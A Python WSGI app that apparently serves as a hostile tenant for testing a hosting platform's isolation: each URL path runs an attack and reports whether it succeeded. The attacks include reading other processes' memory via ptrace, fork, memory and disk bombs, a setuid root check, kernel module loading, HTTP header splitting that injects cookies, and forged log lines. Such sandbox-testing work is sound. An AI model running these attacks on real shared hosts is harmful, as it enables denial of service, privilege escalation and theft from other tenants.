"""The attacks of a hostile app on another tenant and on the host.

A request for /NAME?argument=… calls the function of that name. The function returns what it
obtained, or raises the error that stopped it: the answer begins with "done" or "denied".
"""
import ctypes
import os
import resource
import signal
import socket
import sys
import threading
import time
import traceback
import urllib.parse

libc = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    """Calls a function of the C library, and raises its error."""
    result = getattr(libc, name)(*arguments)
    if result == -1:
        error = ctypes.get_errno()
        raise OSError(error, name + ": " + os.strerror(error))
    return result


def read(path):
    with open(path, "rb") as f:
        return f.read(4096).decode("latin-1")


def write(path):
    with open(path, "ab") as f:
        f.write(b"poison")
    return "written"


def names(path):
    return " ".join(os.listdir(path))


def link(path):
    """Reads a file by a link in the app's own folder."""
    own = os.path.join(os.getcwd(), "link-%d" % time.time_ns())
    os.symlink(path, own)
    try:
        return read(own)
    finally:
        os.unlink(own)


def hardlink(path):
    own = os.path.join(os.getcwd(), "hard-%d" % time.time_ns())
    os.link(path, own)
    return read(own)


def ptrace(pid):
    call("ptrace", 16, int(pid), 0, 0)  # PTRACE_ATTACH
    return "attached"


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def vm_read(pid):
    room = ctypes.create_string_buffer(64)
    own = Piece(ctypes.cast(room, ctypes.c_void_p), 64)
    theirs = Piece(0x400000, 64)
    n = call("process_vm_readv", int(pid), ctypes.byref(own), 1, ctypes.byref(theirs), 1, 0)
    return "read %d bytes" % n


def pidfd(pid):
    """Duplicates an open file of another process."""
    fd = call("syscall", 434, int(pid), 0)
    return "took file %d" % call("syscall", 438, fd, 0, 0)


def kill(pid):
    os.kill(int(pid), signal.SIGKILL)
    return "killed"


def priority(pid):
    os.setpriority(os.PRIO_PROCESS, int(pid), 19)
    return "slowed down"


def limit(pid):
    resource.prlimit(int(pid), resource.RLIMIT_NOFILE, (3, 3))
    return "limited"


def abstract(name):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\0" + name)
        return s.recv(100).decode()


def unix(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(3)
        s.connect(path)
        return "connected"


def tcp(address, port):
    with socket.socket() as s:
        s.settimeout(3)
        s.connect((address, int(port)))
        return "connected"


def udp(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"leak", (address, int(port)))
        return "sent"


def raw():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
        return s.recv(100)


def bind(address, port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind((address, int(port)))
    s.listen()
    return "listens"


def bind_unix(path):
    os.unlink(path)
    s = socket.socket(socket.AF_UNIX)
    s.bind(path)
    s.listen()
    return "listens"


def fork_bomb():
    children, stopped = [], None
    try:
        while len(children) < 4000:
            pid = os.fork()
            if pid == 0:
                time.sleep(4)
                os._exit(0)
            children.append(pid)
    except OSError as error:
        stopped = error
    time.sleep(0.3)
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    if stopped:
        raise stopped
    return "%d processes" % len(children)


def memory_bomb():
    """Allocates memory in pieces, also in children, so that a limit per process is not enough."""
    for _ in range(6):
        if os.fork() == 0:
            room = []
            while len(room) < 512:
                room.append(b"\x01" * (1 << 20))
            time.sleep(5)
            os._exit(0)
    room = []
    while len(room) < 512:
        room.append(b"\x01" * (1 << 20))
    return "took half a GiB"


def shared_memory_bomb():
    with open("/dev/shm/bomb", "wb") as f:
        for _ in range(512):
            f.write(b"\x01" * (1 << 20))
    os.unlink("/dev/shm/bomb")
    return "took half a GiB"


def disk_bomb(path, mebibytes):
    name = os.path.join(path, "bomb")
    try:
        with open(name, "wb") as f:
            for _ in range(int(mebibytes)):
                f.write(b"\x01" * (1 << 20))
        return "wrote %s MiB" % mebibytes
    finally:
        os.unlink(name)


def log_bomb():
    line = "x" * 200 + "\n"
    for _ in range(200_000):
        sys.stderr.write(line)
    return "wrote 40 MB"


def forged_log():
    line = "\x1b[2J2026-01-01T00:00:00Z ERROR the app neighbour has been stopped"
    sys.stderr.write(line + " app=neighbour\n")
    return "wrote"


def cpu_hog():
    def spin(until):
        while time.monotonic() < until:
            pass
    began = os.times()
    until = time.monotonic() + 3
    children = []
    for _ in range(8):
        pid = os.fork()
        if pid == 0:
            spin(until)
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
    ended = os.times()
    used = ended.children_user + ended.children_system - began.children_user - began.children_system
    took = ended.elapsed - began.elapsed
    share = used / took
    if share < 0.7:
        raise OSError(0, "got %.2f of a processor" % share)
    return "got %.2f of a processor" % share


def files():
    kept = []
    try:
        while len(kept) < 200_000:
            kept.append(os.open("/dev/null", os.O_RDONLY))
        return "opened %d files" % len(kept)
    finally:
        for fd in kept:
            os.close(fd)


def inotify():
    kept = []
    try:
        while len(kept) < 2000:
            kept.append(call("inotify_init1", 0))
        return "made %d instances" % len(kept)
    finally:
        for fd in kept:
            os.close(fd)


def threads():
    stop = threading.Event()
    started = []
    try:
        while len(started) < 4000:
            t = threading.Thread(target=stop.wait, daemon=True)
            t.start()
            started.append(t)
        return "%d threads" % len(started)
    finally:
        stop.set()


def daemon():
    """Leaves a process behind in its own session, and returns its process ID."""
    readable, writable = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.write(writable, b"%d" % os.getpid())
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            time.sleep(600)
            os._exit(0)
        os._exit(0)
    os.close(writable)
    os.wait()
    return "left %s" % os.read(readable, 20).decode()


def core():
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
    pid = os.fork()
    if pid == 0:
        os.abort()
    _, status = os.waitpid(pid, 0)
    if not os.WCOREDUMP(status):
        raise OSError(0, "no core was dumped")
    return "dumped core"


def setuid(path):
    """Runs root's set-uid program."""
    from subprocess import run
    out = run([path, "-c", "import os; print(os.geteuid())"], capture_output=True, text=True)
    if out.stdout.strip() != "0":
        raise OSError(0, "it runs as user %s %s" % (out.stdout.strip(), out.stderr.strip()))
    return "root"


def become(uid):
    os.setuid(int(uid))
    return "changed the user"


def namespaces():
    call("unshare", 0x10000000 | 0x00020000)  # CLONE_NEWUSER, CLONE_NEWNS
    return "has namespaces"


def mount():
    call("mount", b"none", b"/mnt", b"tmpfs", 0, None)
    return "mounted"


def bpf():
    call("syscall", 321, 0, 0, 0)
    return "has a map"


def uring():
    room = ctypes.create_string_buffer(256)
    return "ring %d" % call("syscall", 425, 1, room)


def keyring():
    return "key %d" % call("syscall", 248, b"user", b"attack", b"x", 1, -4)


def module():
    call("syscall", 313, 0, b"", 0)
    return "loaded"


def clock():
    time.clock_settime(time.CLOCK_REALTIME, 0)
    return "set"


def segments():
    """Lists the System V shared memory of others."""
    lines = read("/proc/sysvipc/shm").splitlines()[1:]
    for line in lines:
        where = call("shmat", int(line.split()[1]), None, 0o10000)
        return ctypes.string_at(where, 40).decode("latin-1")
    raise OSError(0, "there is none")


def self():
    return str(os.getpid())


def processes():
    """Lists processes of other users."""
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit() and os.stat("/proc/" + name).st_uid != os.getuid():
            found.append(name)
    if not found:
        raise OSError(0, "there are none")
    return "found " + " ".join(found)


def write_wire():
    """Writes rubbish to all sockets that lead to the host."""
    written = 0
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink("/proc/self/fd/" + name).startswith("socket:"):
                written += os.write(int(name), b"\xff" * 65536)
        except OSError:
            continue
    return "wrote %d bytes" % written


def parent(action):
    """Attacks the process that started this one, which belongs to the host."""
    return globals()[action](os.getppid())


def split(start_response):
    value = "b\r\nSet-Cookie: stolen=1\r\n\r\n<html>"
    start_response("200 OK", [("Content-Type", "text/plain"), ("X-A", value)])
    return [b"done split\n"]


def status_split(start_response):
    start_response("200 OK\r\nSet-Cookie: stolen=1", [("Content-Type", "text/plain")])
    return [b"done split\n"]


def endless_head(start_response):
    many = [("X-%d" % i, "x" * 1000) for i in range(20_000)]
    start_response("200 OK", [("Content-Type", "text/plain")] + many)
    return [b"done head\n"]


def sendfile(start_response, path):
    start_response("200 OK", [("Content-Type", "text/plain"), ("X-Sendfile", path)])
    return [b""]


def file_wrapper(start_response, environ, path):
    """Makes the server send a file that the app cannot read, by its descriptor."""
    fd = os.open(path, os.O_PATH)
    start_response("200 OK", [("Content-Type", "text/plain")])
    return environ["wsgi.file_wrapper"](os.fdopen(fd, "rb"))


def application(environ, start_response):
    name = environ["PATH_INFO"].strip("/")
    arguments = dict(urllib.parse.parse_qsl(environ["QUERY_STRING"]))
    if name == "file_wrapper":
        arguments["environ"] = environ
    act = globals()[name]
    if "start_response" in act.__code__.co_varnames[:act.__code__.co_argcount]:
        return act(start_response, **arguments)
    try:
        answer = "done %s" % act(**arguments)
    except (OSError, MemoryError, RuntimeError) as error:
        traceback.print_exc()
        answer = "denied %s: %s" % (type(error).__name__, error)
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [answer.encode()]
